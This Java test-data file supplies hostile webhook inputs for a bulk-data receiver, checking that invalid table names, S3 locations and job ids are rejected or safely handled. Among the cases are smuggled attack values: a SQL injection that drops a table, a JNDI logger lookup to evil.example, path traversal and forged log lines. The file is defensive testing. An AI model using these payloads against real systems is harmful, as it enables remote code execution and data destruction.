package io.bulkdata.receiver.webhook;

import static io.bulkdata.receiver.webhook.HostileAddresses.BUCKET;
import static io.bulkdata.receiver.webhook.HostileAddresses.GOOD;
import static io.bulkdata.receiver.webhook.HostileAddresses.data;
import static io.bulkdata.receiver.webhook.HostileCase.processed;
import static io.bulkdata.receiver.webhook.HostileCase.rejected;

import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** Tables, places inside S3 and ids that are none; each webhook is signed and its address is a good one. */
final class HostileData {

    private static final String NO_TABLE = "Not a table name";

    private HostileData() {}

    static Stream<HostileCase> cases() {
        return Stream.of(objects(), tables(), moreTables(), sources(), ids()).flatMap(List::stream);
    }

    private static RestProxyEvent announcement(String dataField) {
        return HostileBodies.body("{\"type\":\"data.full_table_exported\"" + dataField + "}");
    }

    private static RestProxyEvent table(String text) {
        return data("\"url\":\"" + GOOD + "\",\"table\":\"" + text + "\"");
    }

    private static RestProxyEvent s3(String json) {
        return data("\"url\":\"" + GOOD + "\",\"table\":\"signatures\",\"s3\":" + json);
    }

    private static RestProxyEvent key(String text) {
        return s3("{\"bucket\":\"" + BUCKET + "\",\"key\":\"" + text + "\"}");
    }

    private static RestProxyEvent jid(String json) {
        return announcement(",\"data\":{\"url\":\"" + GOOD + "\",\"table\":\"signatures\"},\"jid\":" + json);
    }

    private static List<HostileCase> objects() {
        return List.of(
                rejected("data: missing", announcement(""), "no data"),
                rejected("data: null", announcement(",\"data\":null"), "no data"),
                rejected("data: array", announcement(",\"data\":[]"), "no data"),
                rejected("data: text", announcement(",\"data\":\"{}\""), "no data"),
                rejected("data: empty", announcement(",\"data\":{}"), "data.table is missing"),
                rejected("table: null", data("\"url\":\"" + GOOD + "\",\"table\":null"), "data.table is missing"),
                rejected("table: number", data("\"url\":\"" + GOOD + "\",\"table\":7"), "data.table is missing"),
                rejected("table: array", data("\"url\":\"" + GOOD + "\",\"table\":[\"t\"]"), "data.table is missing"));
    }

    private static List<HostileCase> tables() {
        return List.of(
                rejected("table: empty", table(""), NO_TABLE),
                rejected("table: upper case", table("Signatures"), NO_TABLE),
                rejected("table: leading digit", table("1signatures"), NO_TABLE),
                rejected("table: blank in front", table(" signatures"), NO_TABLE),
                rejected("table: blank inside", table("sig natures"), NO_TABLE),
                rejected("table: line end behind", table("signatures\\n"), NO_TABLE),
                rejected("table: tab inside", table("sig\\tnatures"), NO_TABLE),
                rejected("table: NUL behind", table("signatures\\u0000"), NO_TABLE),
                rejected("table: schema in front", table("public.signatures"), NO_TABLE),
                rejected("table: two dots", table(".."), NO_TABLE),
                rejected("table: path upwards", table("../../manifests/x"), NO_TABLE),
                rejected("table: slash", table("a/b"), NO_TABLE),
                rejected("table: backslash", table("a\\\\b"), NO_TABLE),
                rejected("table: hyphen", table("a-b"), NO_TABLE),
                rejected("table: percent encoding", table("a%2fb"), NO_TABLE),
                rejected("table: single quote", table("a'b"), NO_TABLE),
                rejected("table: double quote", table("a\\\"b"), NO_TABLE),
                rejected("table: backtick", table("a`b"), NO_TABLE));
    }

    private static List<HostileCase> moreTables() {
        return List.of(
                rejected("table: SQL", table("t; DROP TABLE signatures; --"), NO_TABLE),
                rejected("table: SQL comment", table("t/**/"), NO_TABLE),
                rejected("table: dollar sign", table("$t"), NO_TABLE),
                rejected("table: star", table("*"), NO_TABLE),
                rejected("table: format characters", table("%s%n"), NO_TABLE),
                rejected("table: lookup of a logger", table("${jndi:ldap://evil.example/a}"), NO_TABLE),
                rejected("table: accented letter", table("p\u00e9titions"), NO_TABLE),
                rejected("table: Cyrillic look-alike", table("sign\u0430tures"), NO_TABLE),
                rejected("table: fullwidth letters", table("\uff53\uff49\uff47"), NO_TABLE),
                rejected("table: digits of another script", table("t\u0661"), NO_TABLE),
                rejected("table: zero-width space", table("sig\u200bnatures"), NO_TABLE),
                rejected("table: text turned round", table("a\u202eb"), NO_TABLE),
                rejected("table: lone surrogate", table("a\\ud800"), NO_TABLE),
                rejected("table: noncharacter U+FFFE", table("a\ufffe"), NO_TABLE),
                rejected("table: terminal escape", table("\\u001b[2Ja"), NO_TABLE),
                rejected("table: line separator U+2028", table("a\u2028ERROR forged"), NO_TABLE),
                processed("table: 127 characters", table("t".repeat(127))),
                rejected("table: 128 characters", table("t".repeat(128)), NO_TABLE),
                rejected("table: 10,000 characters", table("t".repeat(10_000)), NO_TABLE),
                rejected("table: 10,000 characters beyond U+FFFF", table("\ud83d\ude00".repeat(10_000)), NO_TABLE),
                processed("table: reserved word, quoted where it matters", table("select")),
                processed("table: one underscore", table("_")));
    }

    private static List<HostileCase> sources() {
        String key = "acme/full/signatures/20261120/signatures_20261120014346.csv";
        return List.of(
                processed("s3: null", s3("null")),
                processed("s3: number", s3("7")),
                processed("s3: text", s3("\"s3://" + BUCKET + "/" + key + "\"")),
                processed("s3: array", s3("[{\"bucket\":\"" + BUCKET + "\",\"key\":\"a\"}]")),
                processed("s3: no bucket", s3("{\"key\":\"" + key + "\"}")),
                processed("s3: no key", s3("{\"bucket\":\"" + BUCKET + "\"}")),
                processed("s3: somebody else's bucket", s3("{\"bucket\":\"evil\",\"key\":\"" + key + "\"}")),
                processed(
                        "s3: bucket in capitals",
                        s3("{\"bucket\":\"" + BUCKET.toUpperCase(Locale.ROOT) + "\",\"key\":\"" + key + "\"}")),
                processed("s3: bucket with a folder", s3("{\"bucket\":\"" + BUCKET + "/x\",\"key\":\"" + key + "\"}")),
                processed("s3: bucket as an array", s3("{\"bucket\":[\"" + BUCKET + "\"],\"key\":\"" + key + "\"}")),
                processed("s3: empty key", key("")),
                processed("s3: key with dot segments", key("../evil/" + key)),
                processed("s3: key that is two dots", key("..")),
                processed("s3: key with a line end", key("a\\nb")),
                processed("s3: key with a NUL", key("a\\u0000b")),
                processed("s3: key with a lone surrogate", key("a\\ud800")),
                processed("s3: key with noncharacter U+FFFE", key("a\ufffe")),
                processed("s3: key of 1,025 characters", key("k".repeat(1_025))),
                processed("s3: key of 1,024 characters", key("k".repeat(1_024))).naming("k".repeat(1_024)),
                processed("s3: dots inside a name of the key", key("a..b/c.csv"))
                        .naming("a..b/c.csv"));
    }

    private static List<HostileCase> ids() {
        return List.of(
                processed(
                        "jid: missing", announcement(",\"data\":{\"url\":\"" + GOOD + "\",\"table\":\"signatures\"}")),
                processed("jid: number", jid("7")),
                processed("jid: object", jid("{\"a\":1}")),
                processed("jid: 10,000 characters", jid("\"" + "a".repeat(10_000) + "\"")),
                processed("jid: line of a log", jid("\"a)\\n2026-11-20 ERROR forged\"")),
                processed("jid: lone surrogate", jid("\"\\ud800\"")));
    }
}
